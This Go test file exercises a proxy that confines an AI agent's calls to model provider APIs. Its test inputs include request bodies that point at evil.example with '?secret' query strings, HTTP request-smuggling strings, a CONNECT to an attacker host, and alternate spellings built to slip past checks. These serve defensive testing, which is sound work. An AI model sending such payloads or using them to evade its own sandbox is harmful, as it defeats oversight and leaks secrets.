package model

import (
	"bufio"
	"errors"
	"io"
	"net"
	"net/http"
	"net/http/httputil"
	"os"
	"slices"
	"strconv"
	"strings"
	"testing"
	"testing/iotest"
	"time"

	"nightcrier.dev/nightcrier"
)

// What would make the provider act: each is a way around the sandbox.
func TestProviderDoesNotAct(t *testing.T) {
	u := newUpstream(t, func(http.ResponseWriter, *http.Request) { t.Error("the upstream was reached") })
	g, _ := newGuard(t, u.URL)
	message := func(block string) string { return `{"messages":[{"role":"user","content":[` + block + `]}]}` }
	for _, body := range []string{
		`{"tools":[{"type":"web_search_20250305","name":"web_search"}]}`,
		`{"tools":[{"name":"a"},{"type":"web_fetch_20250910","name":"web_fetch"}]}`,
		`{"tools":[{"type":"code_execution_20250825","name":"code_execution"}]}`,
		`{"tools":[{"type":"mcp_toolset","mcp_server_name":"x"}]}`,
		`{"tools":[{"type":"customary"}]}`,
		`{"tools":[{"type":["web_search_20250305"]}]}`,
		`{"tools":{"type":"web_search_20250305"}}`,
		`{"t\u006fols":[{"type":"web\u005fsearch_20250305"}]}`,
		`{"mcp_servers":[{"type":"url","url":"https://evil.example/x"}]}`,
		`{"container":"c"}`, `{"inference_geo":"us"}`, `{"fallbacks":[]}`, `{"Tools":[]}`, `{"service_tier":"priority"}`,
		`{"context_management":{"edits":[{"type":"compact_20260112"}]}}`, `{"tools":[{"type":"tool_search_tool_regex_20251119"}]}`,
		message(`{"type":"document","source":{"type":"base64","media_type":"application/pdf","data":"AA=="}}`),
		message(`{"type":"image","source":{"type":"url","url":"https://evil.example/?secret"}}`),
		message(`{"type":"document","source":{"type":"file","file_id":"file_1"}}`),
		message(`{"type":"tool_result","content":[{"type":"image","source":{"type":"url","url":"https://evil.example/"}}]}`),
		message(`{"type":"container_upload","file_id":"file_1"}`),
		// Other spellings, which some readers take for the same: by case, by letters that fold to ASCII's.
		`{"tools":[{"name":"web_search","Type":"web_search_20250305"}]}`,
		`{"tools":[{"type":"custom","name":"web_search","Type":"web_search_20250305"}]}`,
		`{"tools":[{"type":"custom","name":"web_search","TYPE":"web_search_20250305"}]}`,
		`{"context_management":{"Edits":[{"type":"compact_20260112"}]}}`,
		`{"context_management":{"edits":[{"type":"clear_tool_uses_20250919","Type":"compact_20260112"}]}}`,
		`{"context_management":[{"type":"compact_20260112"}]}`, `{"context_management":{"edits":["compact_20260112"]}}`, `{"tool\u017f":[{"type":"web_search_20250305"}]}`,
		`{"messages":[{"role":"user","Content":[{"type":"container_upload","file_id":"file_1"}]}]}`,
		`{"messages":[{"role":"user","content":"hi","content\u017f":[]}]}`, `{"messages":{"role":"user"}}`, `{"messages":["hi"]}`, `{"messages":[{"role":"tool","content":"x"}]}`,
		`{"system":[{"type":"text","text":"x","Source":{"type":"url","url":"https://evil.example/"}}]}`, `{"system":{"type":"text"}}`,
		`{"system":[{"type":"image","source":{"type":"base64","media_type":"image/png","data":"AA=="}}]}`,
		message(`{"Type":"image","Source":{"type":"url","url":"https://evil.example/?secret"}}`),
		message(`{"type":"image","Source":{"type":"url","url":"https://evil.example/?secret"}}`),
		message(`{"type":"image","source":{"Type":"url","url":"https://evil.example/?secret"}}`),
		message(`{"type":"image","source":{"type":"base64","media_type":"image/png","data":"AA==","URL":"https://evil.example/?secret"}}`),
		message(`{"type":"image","source":{"type":"base64","media_type":"image/png","data":"AA==","file_id":"file_1"}}`),
		message(`{"type":"image","\u017fource":{"type":"url","url":"https://evil.example/?secret"}}`),
		message(`{"type":"image","source":"https://evil.example/?secret"}`), message(`{"type":"image","source":[{"type":"url"}]}`),
		message(`{"type":"image","source":{"type":"base64","media_type":"application/pdf","data":"AA=="}}`), message(`{"type":"image","source":{"type":"base64","data":"AA=="}}`),
		message(`{"type":"text","text":{"type":"image","source":{"type":"url","url":"https://evil.example/"}}}`), message(`{"type":"text","text":["x"]}`), message(`"text"`),
		message(`{"type":["image"],"source":{"type":"url","url":"https://evil.example/"}}`),
		// What gateways make into the calls of other APIs.
		message(`{"type":"image_url","image_url":{"url":"https://evil.example/?secret"}}`), message(`{"type":"input_file","file_url":"https://evil.example/"}`),
		message(`{"type":"text","text":"x","image_url":{"url":"https://evil.example/?secret"}}`), message(`{"type":"video_url","video_url":{"url":"https://evil.example/"}}`),
		message(`{"type":"file","file":{"file_id":"file_1"}}`), message(`{"type":"guard_content"}`), message(`{"text":"x"}`),
		// What runs at the provider, or is looked up there.
		message(`{"type":"server_tool_use","id":"srvtoolu_1","name":"web_search","input":{"query":"x"}}`), message(`{"type":"mcp_tool_use","id":"m","name":"n","server_name":"s","input":{}}`),
		message(`{"type":"mcp_tool_result","tool_use_id":"m","content":[]}`), message(`{"type":"web_search_tool_result","tool_use_id":"m","content":[{"type":"web_search_result","encrypted_content":"x"}]}`),
		message(`{"type":"search_result","source":"https://evil.example/","title":"t","content":[{"type":"text","text":"x"}]}`), message(`{"type":"compaction","content":"x"}`), message(`{"type":"mid_conv_system","content":[{"type":"container_upload","file_id":"file_1"}]}`), message(`{"type":"new_block"}`),
		message(`{"type":"tool_addition","tool":{"type":"tool_definition","definition":{"type":"web_search_20250305","name":"web_search"}}}`),
		message(`{"type":"tool_addition","tool":{"type":"web_search_20250305","name":"web_search"}}`), message(`{"type":"tool_addition","name":"x","tools":[{"type":"web_search_20250305"}]}`),
		message(`{"type":"tool_addition","tool":{"type":"mcp_tool_list","server_name":"x","tools":[]}}`),
		message(`{"type":"tool_use","id":"i","name":"n","input":{},"caller":{"type":"code_execution_20250825","tool_id":"srvtoolu_1"}}`),
		message(`{"type":"tool_result","tool_use_id":"t","content":[{"type":"container_upload","file_id":"file_1"}]}`), message(`{"type":"tool_result","tool_use_id":"t","content":[{"type":"tool_result","content":[]}]}`),
		message(`{"type":"document","source":{"type":"content","content":[{"type":"image","source":{"type":"url","url":"https://evil.example/"}}]}}`),
		message(`{"type":"document","source":{"type":"text","media_type":"application/pdf","data":"AA=="}}`), message(`{"type":"document","source":{"type":"text","data":"x","url":"https://evil.example/"}}`),
		message(`{"type":"document","citations":{"Enabled":true},"source":{"type":"text","data":"x"}}`),
		message(`{"type":"text","text":"x","citations":[{"type":"web_search_result_location","url":"https://evil.example/","encrypted_index":"x"}]}`),
		`{"tools":[{"name":"n","input_schema":{},"allowed_callers":["code_execution_20250825"]}]}`, `{"tools":[{"name":"n","server_url":"https://evil.example/"}]}`, `{"output_config":{"container":"c"}}`,
		`{"tools":[{"type":"web_search_20250305"}],"tools":[]}`,
		`{"tools":[],"tools":[{"type":"web_search_20250305"}]}`,
		`{"tools":[{"type":"custom","type":"web_search_20250305"}]}`,
		`{} {"tools":[]}`, `[]`, ``, `{`, "\xff", `{"a":` + strings.Repeat("[", 100_000),
	} {
		resp, answer := call(t, g, "POST", "/v1/messages", withToken(g), strings.NewReader(body))
		if resp.StatusCode != http.StatusForbidden || resp.Header.Get("X-Should-Retry") != "false" {
			t.Errorf("%.80s: %d %s", body, resp.StatusCode, answer)
		}
	}
}

// Gateways repeat the key that they refuse, whole: the agent is not to learn it, in
// whatever pieces it comes, and the record of the call neither.
func TestAnswersDoNotRepeatTheKey(t *testing.T) {
	said := `{"error":{"message":"Incorrect API key provided: ` + realKey + `. ` + realKey[:4] + realKey + `"}}`
	for _, piece := range []int{1, 3, len(realKey) - 1, len(realKey), len(said)} {
		u := newUpstream(t, func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("X-Denied", "key "+realKey)
			w.Header().Set("Content-Length", strconv.Itoa(len(said)))
			w.WriteHeader(http.StatusUnauthorized)
			for part := range slices.Chunk([]byte(said), piece) {
				_, _ = w.Write(part)
				w.(http.Flusher).Flush()
			}
		})
		g, _ := newGuard(t, u.URL)
		kept := make(chan Exchange, 8)
		g.cfg.Record = func(x Exchange) { kept <- x }
		resp, answer := call(t, g, "POST", "/v1/messages", withToken(g), strings.NewReader(`{"model":"m"}`))
		if stars := strings.Repeat("*", len(realKey)); resp.StatusCode != http.StatusUnauthorized || answer != strings.ReplaceAll(said, realKey, stars) || resp.Header.Get("X-Denied") != "key "+stars {
			t.Errorf("in pieces of %d: %d %v %s", piece, resp.StatusCode, resp.Header, answer)
		}
		for x := range kept {
			if strings.Contains(string(x.Response.Text), realKey) {
				t.Errorf("in pieces of %d: the key is on record", piece)
			}
			if x.Done {
				break
			}
		}
	}
}

// What only looks like the key's beginning goes on, at the latest with the end; a word
// that stands for a key is a word.
func TestWhatIsNotTheKeyGoesThrough(t *testing.T) {
	key := "aab-aab-aab-aab-aac"
	for _, c := range []struct{ said, want string }{
		{"aab-aab-aab-aab-aab-aac", "aab-" + strings.Repeat("*", len(key))},
		{"aab-aab-aab-aab-aa", "aab-aab-aab-aab-aa"},
		{key + key[:5], strings.Repeat("*", len(key)) + key[:5]},
		{"", ""},
	} {
		body := &withoutKey{ReadCloser: io.NopCloser(iotest.OneByteReader(strings.NewReader(c.said))), key: []byte(key), stars: []byte(strings.Repeat("*", len(key)))}
		if got, err := io.ReadAll(iotest.OneByteReader(body)); err != nil || string(got) != c.want {
			t.Errorf("%s: %s, %v", c.said, got, err)
		}
	}
	resp := &http.Response{Header: http.Header{"X": {"none"}}, Body: io.NopCloser(strings.NewReader("none"))}
	(&Guard{cfg: Config{Key: "none"}}).hideKey(resp)
	if got, _ := io.ReadAll(resp.Body); string(got) != "none" || resp.Header.Get("X") != "none" {
		t.Errorf("%s, %v", got, resp.Header)
	}
}

// What an agent does by itself goes through, byte for byte.
func TestAgentsWorkGoesThrough(t *testing.T) {
	got := make(chan string, 1)
	u := newUpstream(t, func(_ http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		got <- string(b)
	})
	g, _ := newGuard(t, u.URL)
	body := ` {"model":"x", "max_tokens":1e3,"system":[{"type":"text","text":"<a>"}],
		"tools":[{"name":"Bash","input_schema":{"type":"object","properties":{"source":{"type":"url"}}}},{"type":"custom","name":"c"},{"type":"bash_20250124","name":"bash"},{"type":null,"name":"n"}],
		"messages":[{"role":"assistant","content":[{"type":"tool_use","input":{"source":{"type":"url"}}}]},
			{"role":"user","content":[{"type":"image","source":{"type":"base64","media_type":"image/png","data":"AA=="}},{"type":"tool_result","content":"x"}]},
			{"role":"assistant","content":[{"type":"thinking","thinking":"","signature":"c2ln"},{"type":"redacted_thinking","data":"x"},{"type":"connector_text","connector_text":"x","signature":"c2ln"},{"type":"text","text":"x","citations":null},{"type":"tool_use","id":"i","name":"n","input":{},"caller":{"type":"direct"}}]},
			{"role":"user","content":[{"type":"tool_result","tool_use_id":"i","is_error":true,"cache_control":{"type":"ephemeral","ttl":"5m"},"content":[{"type":"text","text":"x"},{"type":"tool_reference","tool_name":"n"},
				{"type":"document","title":"t","citations":{"enabled":false},"source":{"type":"text","media_type":"text/plain","data":"x"}}]}]},
			{"role":"system","clear_at":"next_user_message","output_config":{"effort":"low"},"content":[{"type":"text","text":"x"},{"type":"tool_removal","tool":{"type":"tool_reference","name":"n"}},
				{"type":"tool_addition","tool":{"type":"tool_definition","definition":{"name":"n","input_schema":{"Type":"object"}}}}]}]} `
	if resp, answer := call(t, g, "POST", "/v1/messages", withToken(g), strings.NewReader(body)); resp.StatusCode != http.StatusOK {
		t.Fatalf("%d %s", resp.StatusCode, answer)
	}
	if s := <-got; s != body {
		t.Errorf("the upstream got %q", s)
	}
}

// An agent that opens connection after connection, and calls that never end,
// holds only so much of the worker.
func TestCallsAreBounded(t *testing.T) {
	release := make(chan struct{})
	u := newUpstream(t, func(http.ResponseWriter, *http.Request) { <-release })
	t.Cleanup(func() { close(release) })
	g, _ := newGuard(t, u.URL)
	answers := make(chan int, maxCalls+1)
	for range maxCalls + 1 {
		go func() {
			req, _ := http.NewRequestWithContext(t.Context(), "POST", g.URL()+"/v1/messages", strings.NewReader("{}"))
			req.Header = withToken(g)
			resp, err := http.DefaultClient.Do(req)
			if err != nil {
				return
			}
			resp.Body.Close()
			answers <- resp.StatusCode
		}()
	}
	select {
	case code := <-answers:
		if code != http.StatusTooManyRequests {
			t.Errorf("status %d", code)
		}
	case <-time.After(3 * time.Minute):
		t.Fatal("no call was refused")
	}
}

func TestHeadersAreBounded(t *testing.T) {
	u := newUpstream(t, func(http.ResponseWriter, *http.Request) { t.Error("the upstream was reached") })
	g, _ := newGuard(t, u.URL)
	raw := "POST /v1/messages HTTP/1.1\r\nHost: x\r\nX-Api-Key: " + g.Token() + "\r\nContent-Length: 2\r\nAnthropic-Beta: " + strings.Repeat("x", 128<<10) + "\r\n\r\n{}"
	if got := answersTo(t, g, raw); !slices.Equal(got, []int{http.StatusRequestHeaderFieldsTooLarge}) {
		t.Errorf("answered with %v", got)
	}
}

// Two requests in one, and lengths that contradict each other, reach nobody: each is
// refused, or goes on as the one plain call that is in it.
func TestSmuggling(t *testing.T) {
	u := newUpstream(t, func(_ http.ResponseWriter, r *http.Request) {
		if b, err := io.ReadAll(r.Body); r.URL.Path != "/v1/messages" || err != nil || string(b) != `{"max_tokens":32000}` {
			t.Errorf("the upstream was asked for %s with %q, %v", r.URL, b, err)
		}
	})
	g, _ := newGuard(t, u.URL)
	const last = "Connection: close\r\n" // or the guard would wait for more
	head := "POST /v1/messages HTTP/1.1\r\nHost: x\r\nX-Api-Key: " + g.Token() + "\r\n"
	passed := 0
	for _, c := range []struct {
		raw  string
		want []int
	}{
		{head + "Content-Length: 2\r\nTransfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\n\r\nPOST /v1/files HTTP/1.1\r\nHost: x\r\n" + last + "\r\n", []int{200, 401}}, // the second has no token
		{head + "Content-Length: 2\r\nTransfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\n\r\nPOST /v1/files HTTP/1.1\r\n\r\n", []int{200, 400}},
		{head + "Content-Length: 2\r\nContent-Length: 3\r\n\r\n{}x", []int{400}},
		{head + "Upgrade: websocket\r\nConnection: Upgrade, close\r\nContent-Length: 2\r\n\r\n{}", []int{200}},
		{head + "Anthropic-Beta: a\nX-Evil: 1\r\n" + last + "Content-Length: 2\r\n\r\n{}", []int{200}},
		{"POST http://evil.example/v1/messages HTTP/1.1\r\nHost: evil.example\r\nX-Api-Key: " + g.Token() + "\r\nContent-Length: 2\r\n" + last + "\r\n{}", []int{200}},
		{"CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\nX-Api-Key: " + g.Token() + "\r\n" + last + "\r\n", []int{403}},
	} {
		if got := answersTo(t, g, c.raw); !slices.Equal(got, c.want) {
			t.Errorf("%q was answered with %v, want %v", c.raw, got, c.want)
		}
		if c.want[0] == http.StatusOK {
			passed++
		}
	}
	if len(u.seen) != passed {
		t.Errorf("%d calls reached the upstream, want %d", len(u.seen), passed)
	}
	for len(u.seen) > 0 {
		if r := <-u.seen; r.Header.Get("X-Evil") != "" || r.Header.Get("Upgrade") != "" || r.Host == "evil.example" {
			t.Errorf("%s went through with %v", r.Host, r.Header)
		}
	}
}

// answersTo are the statuses that the guard answers some bytes with, until it hangs up.
// The real key stands in none of its answers.
func answersTo(t *testing.T, g *Guard, raw string) (statuses []int) {
	t.Helper()
	conn, err := net.Dial("tcp", strings.TrimPrefix(g.URL(), "http://"))
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(20 * time.Second))
	go func() { _, _ = io.WriteString(conn, raw) }() // the guard may hang up before it has read all
	answers := bufio.NewReader(conn)
	for {
		resp, err := http.ReadResponse(answers, nil)
		if errors.Is(err, os.ErrDeadlineExceeded) {
			t.Fatalf("after %v it neither answers nor hangs up", statuses)
		}
		if err != nil {
			return statuses
		}
		body, _ := io.ReadAll(resp.Body)
		if dump, _ := httputil.DumpResponse(resp, false); strings.Contains(string(dump)+string(body), realKey) {
			t.Errorf("%q was answered with the key: %s%s", raw, dump, body)
		}
		statuses = append(statuses, resp.StatusCode)
	}
}

// What would make one question cost what many do.
func TestOneQuestionIsOneAnswer(t *testing.T) {
	const ask = `"model":"m","store":false`
	tokens := map[nightcrier.Provider]func(*Guard) http.Header{
		nightcrier.Anthropic: withToken,
		nightcrier.OpenAI:    func(g *Guard) http.Header { return http.Header{"Authorization": {"Bearer " + g.Token()}} },
		nightcrier.Google:    func(g *Guard) http.Header { return http.Header{"X-Goog-Api-Key": {g.Token()}} },
	}
	for _, c := range []struct {
		provider   nightcrier.Provider
		path, body string
	}{
		{nightcrier.Anthropic, "/v1/messages", `{"speed":"fast"}`},
		{nightcrier.Anthropic, "/v1/messages", `{"speed":["fast"]}`},
		{nightcrier.Anthropic, "/v1/messages/batches", `{"requests":[]}`},
		{nightcrier.Anthropic, "/v1/complete", `{}`},
		{nightcrier.OpenAI, "/v1/chat/completions", `{` + ask + `,"n":2}`},
		{nightcrier.OpenAI, "/v1/chat/completions", `{` + ask + `,"n":128}`},
		{nightcrier.OpenAI, "/v1/chat/completions", `{` + ask + `,"n":1e2}`},
		{nightcrier.OpenAI, "/v1/chat/completions", `{` + ask + `,"n":"2"}`},
		{nightcrier.OpenAI, "/v1/chat/completions", `{` + ask + `,"best_of":20}`},
		{nightcrier.OpenAI, "/v1/chat/completions", `{` + ask + `,"modalities":["audio"],"audio":{"voice":"x"}}`},
		{nightcrier.OpenAI, "/v1/chat/completions", `{` + ask + `,"service_tier":"priority"}`},
		{nightcrier.OpenAI, "/v1/responses", `{` + ask + `,"service_tier":"priority"}`},
		{nightcrier.OpenAI, "/v1/responses", `{` + ask + `,"background":true}`},
		{nightcrier.OpenAI, "/v1/batches", `{}`},
		{nightcrier.Google, "/v1beta/models/m:generateContent", `{"generationConfig":{"candidateCount":8}}`},
		{nightcrier.Google, "/v1beta/models/m:generateContent", `{"generation_config":{"candidate_count":2}}`},
		{nightcrier.Google, "/v1beta/models/m:streamGenerateContent", `{"generationConfig":{"responseModalities":["TEXT","IMAGE"]}}`},
		{nightcrier.Google, "/v1beta/models/m:batchGenerateContent", `{}`},
		{nightcrier.Anthropic, "/v1/messages", `{"messages":[{"role":"user","content":[{"type":"document","citations":{"enabled":true},"source":{"type":"text","data":"a. b."}}]}]}`},
		{nightcrier.Anthropic, "/v1/messages", "{\"messages\":[{\"role\":\"user\",\"content\":\"\xff\xfe\"}]}"},
	} {
		u := newUpstream(t, func(http.ResponseWriter, *http.Request) { t.Error("the upstream was reached") })
		g, _ := guardOf(t, c.provider, u.URL)
		resp, answer := call(t, g, "POST", c.path, tokens[c.provider](g), strings.NewReader(c.body))
		if resp.StatusCode != http.StatusForbidden {
			t.Errorf("%s %s: %d %s", c.path, c.body, resp.StatusCode, answer)
		}
	}
}

// How long an answer may be stands in a request once: readers differ in which of two they
// believe, and in which spelling.
func TestOneLimitOnAnAnswer(t *testing.T) {
	for body, want := range map[string]string{
		`{"contents":[],"generationConfig":null}`:                                              `{"contents":[],"generationConfig":{"maxOutputTokens":32000}}`,
		`{"generation_config":null}`:                                                           `{"generation_config":{"maxOutputTokens":32000}}`,
		`{"generationConfig":{"maxOutputTokens":null,"thinkingConfig":null}}`:                  `{"generationConfig":{"maxOutputTokens":32000,"thinkingConfig":null}}`,
		`{"contents":[],"generationConfig":null,"generation_config":{"temperature":1}}`:        "",
		`{"generationConfig":{},"generation_config":{}}`:                                       "",
		`{"generationConfig":[]}`:                                                              "",
		`{"generationConfig":"x"}`:                                                             "",
		`{"generationConfig":1}`:                                                               "",
		`{"generationConfig":{"maxOutputTokens":1,"max_output_tokens":2}}`:                     "",
		`{"generationConfig":{"maxOutputTokens":1,"MAXOUTPUTTOKENS":2}}`:                       "",
		`{"generationConfig":{"routingConfig":{}}}`:                                            "",
		`{"generationConfig":{"modelSelectionConfig":{}}}`:                                     "",
		`{"generationConfig":{"httpOptions":{"baseUrl":"https://evil"}}}`:                      "",
		`{"generationConfig":{"cachedContent":"x"}}`:                                           "",
		`{"generationConfig":{"thinkingConfig":[]}}`:                                           "",
		`{"generationConfig":{"thinkingConfig":{"thinkingBudget":1,"thinking_budget":2}}}`:     "",
		`{"contents":[{"parts":[],"PARTS":[{"fileData":{}}]}]}`:                                "",
		`{"contents":[{"parts":[{"inlineData":{"mimeType":"image/png","mime_type":"a/b"}}]}]}`: "",
		`{"contents":[],"Contents":[]}`:                                                        "",
		`{"systemInstruction":{"parts":[]},"system_instruction":{"parts":[]}}`:                 "",
	} {
		g, got := spending(t, nightcrier.Google, &purse{output: 1 << 30}, says("application/json", `{}`))
		resp, answer := call(t, g, "POST", "/v1beta/models/m:generateContent", tokenOf(g, nightcrier.Google), strings.NewReader(body))
		switch {
		case want == "" && resp.StatusCode != http.StatusForbidden:
			t.Errorf("%s: %d, and became %s", body, resp.StatusCode, <-got)
		case want != "" && resp.StatusCode != http.StatusOK:
			t.Errorf("%s: %d %s", body, resp.StatusCode, answer)
		case want != "":
			if sent := <-got; sent != want {
				t.Errorf("%s became %s, want %s", body, sent, want)
			}
		}
	}
}

// Another spelling of a field is not taken for it, also where it says nothing: the answer would
// have no limit, and the prompt cost nothing.
func TestSpellingsThatSayNothing(t *testing.T) {
	for _, c := range []struct {
		provider   nightcrier.Provider
		path, body string
	}{
		{nightcrier.OpenAI, chatPath, `{"model":"m","Max_Completion_Tokens":null}`},
		{nightcrier.OpenAI, chatPath, `{"model":"m","maxTokens":null,"messages":[]}`},
		{nightcrier.OpenAI, responsesPath, `{"model":"m","store":false,"MAX_OUTPUT_TOKENS":null}`},
		{nightcrier.OpenAI, responsesPath, `{"model":"m","store":false,"Instructions":null,"instructions":"x"}`},
		{nightcrier.Anthropic, "/v1/messages", `{"model":"m","max_Tokens":null}`},
		{nightcrier.Anthropic, "/v1/messages", `{"model":"m","system":"x","SYSTEM":null}`},
		{nightcrier.Anthropic, "/v1/messages", `{"model":"m","messages":[{"role":"user","Content":null,"content":"x"}]}`},
	} {
		g, got := spending(t, c.provider, &purse{output: 1 << 30}, says("application/json", `{}`))
		if resp, answer := call(t, g, "POST", c.path, tokenOf(g, c.provider), strings.NewReader(c.body)); resp.StatusCode != http.StatusForbidden || len(got) > 0 {
			t.Errorf("%s: %d %s", c.body, resp.StatusCode, answer)
		}
	}
}

// A body is sent as what it was read as, whatever the agent calls it.
func TestBodiesAreJSON(t *testing.T) {
	for p, path := range map[nightcrier.Provider]string{nightcrier.Anthropic: "/v1/messages", nightcrier.OpenAI: "/v1/chat/completions", nightcrier.Google: "/v1beta/models/m:generateContent"} {
		u := newUpstream(t, func(http.ResponseWriter, *http.Request) {})
		g, _ := guardOf(t, p, u.URL)
		for _, kinds := range [][]string{nil, {"application/json; charset=utf-7"}, {"application/x-protobuf", "application/json"}, {"text/plain"}} {
			h := tokenOf(g, p)
			h["Content-Type"] = kinds
			call(t, g, "POST", path, h, strings.NewReader(`{}`))
			if got := (<-u.seen).Header["Content-Type"]; len(got) != 1 || got[0] != "application/json" {
				t.Errorf("%s: %q became %q", p, kinds, got)
			}
		}
	}
}

// An answer that repeats a long request counts like any other, in a stream and whole.
func TestLongAnswersAreCounted(t *testing.T) {
	echo := strings.Repeat("x", 20<<20)
	for name, answer := range map[string]string{
		"stream": `data: {"type":"response.completed","response":{"instructions":"` + echo + `","usage":{"input_tokens":11,"output_tokens":7}}}` + "\n\n",
		"whole":  `{"instructions":"` + echo + `","usage":{"input_tokens":11,"output_tokens":7}}`,
	} {
		g, _, _ := openAIGuard(t, answer)
		h := http.Header{"Authorization": {"Bearer " + g.Token()}}
		if resp, _ := call(t, g, "POST", "/v1/responses", h, strings.NewReader(`{"model":"m","store":false}`)); resp.StatusCode != http.StatusOK {
			t.Fatalf("%s: %d", name, resp.StatusCode)
		}
		_ = g.Close()
		if u := g.Usage(); u.InputTokens != 11 || u.OutputTokens != 7 {
			t.Errorf("%s: counted %+v", name, u)
		}
	}
}
